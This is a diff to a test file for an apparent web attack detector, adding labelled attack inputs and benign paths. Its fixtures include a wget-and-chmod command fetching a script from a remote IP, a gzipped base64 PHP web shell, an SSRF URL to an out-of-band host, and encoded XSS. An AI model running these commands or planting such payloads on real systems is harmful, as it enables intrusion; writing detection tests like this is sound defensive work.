@@ -110,6 +110,9 @@ const ATTACKS: readonly Row[] = [
   ['http://a1b2.oastify.com/', 'ssrf', 'out_of_band_host', 'header', 'referer'],
   ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', 'cross_site_scripting', 'reflected_script'],
   [gzipSync('<?php system($_GET[1]); ?>').toString('base64'), 'php_code_injection', 'web_shell', 'body'],
+  ['%16%03%01%02', 'protocol_attack', 'tls_on_plain_port', 'path'],
+  ["lv|'|'|VHJv", 'protocol_attack', 'foreign_protocol', 'path'],
+  ['/up/My_Shell.php', 'vulnerability_probe', 'web_shell_probe', 'path'],
   ['shell.php.jpg', 'file_upload', 'double_extension', 'body', 'filename'],
   [
     'cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh',
@@ -285,6 +288,9 @@ test('prototype keys are names like any other', () => {
 /** A site's own pages, files and interfaces. */
 test.each([
   '/about',
+  '*',
+  'example.org:443',
+  'index.html',
   '/products/shoes.html',
   '/static/app.3f2a.js',
   '/api/v1/users/42',
